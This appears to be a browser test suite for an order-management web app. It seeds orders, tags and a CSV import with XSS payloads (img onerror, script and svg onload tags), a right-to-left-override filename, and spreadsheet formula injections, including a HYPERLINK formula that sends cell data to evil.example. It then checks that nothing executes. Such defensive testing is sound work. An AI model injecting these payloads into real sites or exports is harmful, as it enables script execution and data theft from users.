import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { parse } from 'csv-parse/sync'
import type { Page } from 'playwright-core'
import { createTag } from '../../src/core/accounts/create-tag.ts'
import {
  addOrders,
  button,
  type Desk,
  dialog,
  eventually,
  rowOf,
  startDesk,
} from '../support/desk-browser.ts'
import { buildAddress, buildItem } from '../support/orders.ts'

const markup = '<img src=x onerror="window.hacked=1">'
const script = '<script>window.hacked=2</script>'
const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
const turned = 'invoice\u202Egnp.exe'
const endless = 'W'.repeat(10_000)
const number = '"><svg onload=window.hacked=3>'

let desk: Desk
let page: Page
let orderId = 0

before(async () => {
  desk = await startDesk()
  await createTag(desk.account.ctx, { name: markup, color: '#d7263d' })
  ;[orderId = 0] = await addOrders(desk, [number], {
    shipTo: buildAddress({ name: markup, company: turned, street1: 'W'.repeat(100), city: script }),
    items: [
      buildItem({ sku: formula, name: markup, options: [{ name: script, value: formula }] }),
      buildItem({ sku: '+SUM(1)', name: 'N'.repeat(200), warehouseLocation: script, upc: '@cmd' }),
    ],
    ...{ customerNotes: endless, internalNotes: `${script}${turned}`, giftMessage: markup, gift: true },
    ...{ customerEmail: 'buyer@example.com', requestedShippingService: script },
  })
  const owner = await desk.join('owner')
  assert.equal((await owner.put('me', { name: script })).status, 200)
  await owner.put(`/orders/${orderId}/user`, { userId: owner.userId })
  await owner.put(`/orders/${orderId}/tags/${await tagId()}`)
  page = await desk.open(owner, 'orders')
})
after(() => desk.close())

test('in the list', async () => {
  const row = rowOf(page, number)
  await row.waitFor()
  const shown = await row.innerText()
  for (const text of [markup, script]) assert.ok(shown.includes(text), text)
  await page
    .getByRole('textbox', { name: 'Search orders' })
    .or(page.getByRole('searchbox'))
    .first()
    .fill(script)
  await isHarmless()
})

test('on the page of the order and in its drawer', async () => {
  for (const address of [`order/${orderId}`, `orders/${orderId}`]) {
    await go(address)
    await page.getByRole('heading', { name: `Order ${number}` }).waitFor()
    const shown = await page.locator('main').innerText()
    for (const text of [markup, script, formula, endless]) assert.ok(shown.includes(text), text.slice(0, 60))
    await page
      .getByText(/user|The owner|<script>/)
      .first()
      .waitFor()
    await isHarmless()
  }
})

test('at the packing table', async () => {
  await go('pack')
  await page.getByText('Nothing on the table').waitFor()
  await page.keyboard.insertText(number)
  await page.keyboard.press('Enter')
  await page.getByRole('heading', { name: `Order ${number}` }).waitFor()
  await page.keyboard.insertText(markup)
  await page.keyboard.press('Enter')
  await page.getByRole('alert').filter({ hasText: markup }).waitFor()
  await isHarmless()
})

test('in dialogs, messages and the history of actions', async () => {
  await go('orders')
  await rowOf(page, number).getByRole('checkbox').click()
  await button(page, 'Tag').click()
  const form = dialog(page, 'Tag 1 order')
  await form.getByRole('checkbox', { name: markup }).check()
  await isHarmless()
  await button(form, 'Tag').click()
  await page.getByText('Tagged: 1 order').waitFor()
  for (const [address, text] of [
    ['activity', script],
    ['set-up/tags', markup],
    ['set-up/users', script],
    ['today', 'Today'],
    ['me', 'My settings'],
  ] as const) {
    await go(address)
    await page.getByText(text).first().waitFor()
    await isHarmless()
  }
})

test('in the preview of a file', async () => {
  const csv = `Reference,Recipient,${script},SKU,Quantity\n"${number.replaceAll('"', '""')}","${markup.replaceAll('"', '""')}",x,"${formula.replaceAll('"', '""')}",1\nB-2,x,x,${script},many\n`
  await go('import')
  await page.locator('input[type=file]').setInputFiles({
    ...{ name: `${script.replaceAll('/', '')}.csv`, mimeType: 'text/csv', buffer: Buffer.from(csv) },
  })
  await button(page, 'Look at the orders').click()
  await page.getByText('1 order can be imported.').waitFor()
  await page.getByText(markup).first().waitFor()
  await isHarmless()
})

test('a table calculator that opens an export computes nothing', async () => {
  for (const address of [
    'orders/export?format=csv&filter={}',
    'orders/export?format=csv&filter={}&columns=items&columns=recipient',
  ]) {
    const url = `${desk.hub.url}/desk/api/accounts/${desk.account.account.id}/${address}`
    const answer = await page.request.get(url)
    assert.equal(answer.status(), 200, await answer.text())
    assert.match(answer.headers()['content-disposition'] ?? '', /^attachment/)
    const cells = (parse(await answer.body()) as string[][]).flat()
    const dangerous = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))
    assert.deepEqual(dangerous, [])
    assert.ok(
      cells.some((cell) => cell.includes(markup)),
      'and what was written is there',
    )
  }
})

test('nothing ran, asked elsewhere or complained', () => desk.assertCalm())

const go = (address: string) => page.goto(`${desk.hub.url}/desk/a/${desk.account.account.id}/${address}`)

/** Nothing of it became markup or ran, and no page grew wider than its window, at a desk or in a hand. */
async function isHarmless(): Promise<void> {
  for (const width of [1280, 390]) {
    await page.setViewportSize({ width, height: 800 })
    await eventually(async () => {
      const found = await page.evaluate(`({
        hacked: 'hacked' in window,
        made: document.querySelectorAll('img[src="x"], svg[onload], [onerror]').length,
        wide: document.documentElement.scrollWidth,
      })`)
      assert.deepEqual(found, { hacked: false, made: 0, wide: width })
    }, 3_000)
  }
  await page.setViewportSize({ width: 1280, height: 800 })
}

async function tagId(): Promise<number> {
  const { body } = await desk.account.v1.get<{ tagId: number }[]>('/accounts/listtags')
  return body[0]?.tagId ?? 0
}
